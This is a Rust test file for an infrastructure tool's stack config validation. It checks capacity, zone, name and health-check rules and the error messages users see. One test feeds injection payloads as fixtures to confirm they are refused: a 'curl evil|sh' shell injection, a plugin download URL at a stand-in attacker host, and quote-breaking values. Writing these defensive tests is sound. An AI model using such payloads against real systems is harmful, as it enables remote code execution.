//! Stack config: strict parsing, every validation rule with a failing fixture, and the errors a
//! user sees for unknown keys, unknown environments and unreadable files.
use std::path::Path;

use orch::config::{load_str, ConfigError};

use crate::support::{repo, Scratch};

/// The 1-based line of dev.yaml's `instances.min`.
fn min_line() -> usize {
    dev_text().lines().position(|l| l.starts_with("  min:")).unwrap() + 1
}

fn dev_text() -> String {
    std::fs::read_to_string(repo().join("stacks/dev.yaml")).unwrap()
}

/// Apply `edit` to dev.yaml's text and return the problems as (key, line, message).
fn problems(edit: impl Fn(String) -> String) -> Vec<(String, Option<usize>, String)> {
    match load_str(&edit(dev_text()), "dev", Path::new("stacks/dev.yaml")) {
        Ok(_) => vec![],
        Err(ConfigError::Invalid { problems, .. }) => {
            problems.into_iter().map(|p| (p.key, p.line, p.message)).collect()
        }
        Err(other) => panic!("expected validation problems, got {other}"),
    }
}

fn assert_flags(edit: impl Fn(String) -> String, key: &str) {
    let found = problems(edit);
    assert!(
        found.iter().any(|(k, line, _)| k == key && line.is_some()),
        "expected a problem at `{key}` with a line, got {found:?}"
    );
}

#[test]
fn shipped_stacks_are_valid() {
    for env in ["local", "dev", "prod"] {
        let text = std::fs::read_to_string(repo().join(format!("stacks/{env}.yaml"))).unwrap();
        if let Err(e) = load_str(&text, env, Path::new(env)) {
            panic!("stacks/{env}.yaml: {e}");
        }
    }
}

#[test]
fn capacity_rules() {
    assert_flags(
        |t| t.replace("  min: 2\n  desired: 2", "  min: 3\n  desired: 2"),
        "instances.min",
    );
    assert_flags(
        |t| t.replace("  desired: 2\n  max: 4", "  desired: 5\n  max: 4"),
        "instances.desired",
    );
    assert_flags(|t| t.replace("  min: 2\n", "  min: 1\n"), "instances.min");
}

#[test]
fn zone_rules() {
    assert_flags(|t| t.replace("[eu-west-1a, eu-west-1b]", "[eu-west-1a, eu-west-1a]"), "zones[1]");
    assert_flags(|t| t.replace("[eu-west-1a, eu-west-1b]", "[eu-west-1a, us-east-1b]"), "zones[1]");
    assert_flags(|t| t.replace("[eu-west-1a, eu-west-1b]", "[eu-west-1a]"), "zones");
    assert_flags(|t| t.replace("region: eu-west-1", "region: Europe"), "region");
}

#[test]
fn name_and_domain_rules() {
    assert_flags(|t| t.replace("repository: orch-app", "repository: Orch App"), "image.repository");
    assert_flags(
        |t| t.replace("name: dev.orch-demo.net", "name: dev..orch-demo.net"),
        "domain.name",
    );
    assert_flags(|t| t.replace("name: dev.orch-demo.net", "name: dev.other.org"), "domain.name");
    // A malformed backend URL is refused as the file is parsed, with its key and line.
    let text = dev_text().replace("backend: s3://orch-state-dev", "backend: s3://Bad_Bucket");
    match load_str(&text, "dev", Path::new("stacks/dev.yaml")) {
        Err(ConfigError::Parse { line: Some(_), message, .. }) => {
            assert!(message.contains("pulumi: backend `s3://Bad_Bucket`"), "{message}");
        }
        other => panic!("expected a parse error at pulumi.backend, got {other:?}"),
    }
    assert_flags(
        |t| t.replace("instance_class: db.t4g.micro", "instance_class: t3.micro"),
        "database.instance_class",
    );
}

#[test]
fn health_check_ranges() {
    assert_flags(
        |t| t.replace("interval_seconds: 10", "interval_seconds: 1"),
        "health_check.interval_seconds",
    );
    assert_flags(
        |t| t.replace("healthy_threshold: 2\n  unhealthy", "healthy_threshold: 11\n  unhealthy"),
        "health_check.healthy_threshold",
    );
    assert_flags(|t| t.replace("path: /healthz", "path: healthz"), "health_check.path");
}

#[test]
fn all_problems_are_reported_at_once() {
    let found =
        problems(|t| t.replace("  min: 2\n", "  min: 9\n").replace("path: /healthz", "path: nope"));
    assert!(found.len() >= 2, "{found:?}");
}

#[test]
fn unknown_key_names_key_file_and_line() {
    let scratch = Scratch::new();
    scratch.write("stacks/dev.yaml", &format!("{}bogus: 1\n", scratch.read("stacks/dev.yaml")));
    let out = scratch.orch().args(["render", "--env", "dev"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bogus") && err.contains("dev.yaml"), "{err}");
    assert!(
        err.contains(&format!(":{}:", scratch.read("stacks/dev.yaml").lines().count())),
        "no line number: {err}"
    );
}

#[test]
fn unknown_env_lists_existing_envs() {
    let scratch = Scratch::new();
    let out = scratch.orch().args(["check", "--env", "staging"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("staging") && err.contains("dev, local, prod"), "{err}");
    assert!(err.contains("hint:"), "{err}");
}

#[test]
fn invalid_value_reports_file_key_and_line() {
    let scratch = Scratch::new();
    scratch.write(
        "stacks/dev.yaml",
        &scratch.read("stacks/dev.yaml").replace("  min: 2\n", "  min: 7\n"),
    );
    let out = scratch.orch().args(["render", "--env", "dev"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("dev.yaml")
            && err.contains("instances.min")
            && err.contains(&format!("line {}", min_line())),
        "{err}"
    );
}

#[test]
fn unreadable_file_says_so() {
    let scratch = Scratch::new();
    let path = scratch.path().join("stacks/dev.yaml");
    std::fs::remove_file(&path).unwrap();
    std::fs::create_dir(&path).unwrap(); // a directory where the file should be cannot be read
    let out = scratch.orch().args(["render", "--env", "dev"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("cannot read") && err.contains("dev.yaml"), "{err}");
}

#[test]
fn wrong_type_names_the_line() {
    let scratch = Scratch::new();
    scratch.write(
        "stacks/dev.yaml",
        &scratch.read("stacks/dev.yaml").replace("  min: 2\n", "  min: two\n"),
    );
    let out = scratch.orch().args(["render", "--env", "dev"]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains(&format!("dev.yaml:{}:", min_line())), "{err}");
}

/// `orch check --env ENV` on a scratch project whose `stacks/ENV.yaml` is dev's with `edit` applied:
/// (exit code, stderr).
fn check_edited(
    env: &str,
    edit: impl Fn(String) -> String,
    vars: &[(&str, &str)],
) -> (i32, String) {
    let scratch = Scratch::new();
    scratch.write(&format!("stacks/{env}.yaml"), &edit(scratch.read("stacks/dev.yaml")));
    let out =
        scratch.orch().envs(vars.iter().copied()).args(["check", "--env", env]).output().unwrap();
    assert!(
        !scratch.path().join(format!("build/{env}/Pulumi.yaml")).exists(),
        "nothing is rendered"
    );
    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn every_injection_into_the_program_or_the_user_data_is_refused_with_exit_2_naming_the_key() {
    let hex = "a".repeat(64);
    let pulumi = "pulumi:\n  backend: s3://orch-state-dev\n";
    type Edit = Box<dyn Fn(String) -> String>;
    let cases: Vec<(&str, Edit, &str)> = vec![
        (
            "dev",
            Box::new(move |t: String| {
                t.replace(pulumi, &format!("{pulumi}  aws_native_version: '1.79.0\", pluginDownloadURL: \"https://evil.example/x'\n"))
            }),
            "pulumi.aws_native_version",
        ),
        (
            "dev",
            Box::new(|t: String| t.replace("path: /healthz", "path: \"/healthz\\\"\\n  x: 1\"")),
            "health_check.path",
        ),
        (
            "dev",
            Box::new(|t: String| t.replace("type: t3.micro", "type: \"t3.micro\\\"; x\"")),
            "instances.type",
        ),
        (
            "dev",
            Box::new(|t: String| {
                t.replace("instance_class: db.t4g.micro", "instance_class: \"db.t4g.micro ${x}\"")
            }),
            "database.instance_class",
        ),
        (
            "dev",
            Box::new(|t: String| {
                t.replace(
                    "  repository: orch-app\n",
                    "  repository: orch-app\n  registry: \"r.io'; curl evil|sh; '\"\n",
                )
            }),
            "image.registry",
        ),
        (
            "dev",
            Box::new(|t: String| t.replace("  env: dev\n", "  env: \"dev\\\" ${imageUri}\"\n")),
            "tags.env",
        ),
        ("dev-", Box::new(|t: String| t), "name"),
        ("a--b", Box::new(|t: String| t), "name"),
    ];
    for (env, edit, key) in cases {
        let (code, err) = check_edited(env, edit, &[]);
        assert_eq!(code, 2, "{key}: {err}");
        assert!(err.contains(key), "`{key}` named in: {err}");
    }
    // An image reference from the environment: quotes or a tag are refused before anything runs.
    for bad in [format!("r.io/app'; id; '@sha256:{hex}"), format!("r.io/app:1@sha256:{hex}")] {
        let (code, err) = check_edited("dev", |t| t, &[("ORCH_IMAGE", &bad)]);
        assert_eq!(code, 2, "{err}");
        assert!(err.contains("ORCH_IMAGE"), "{err}");
    }
}
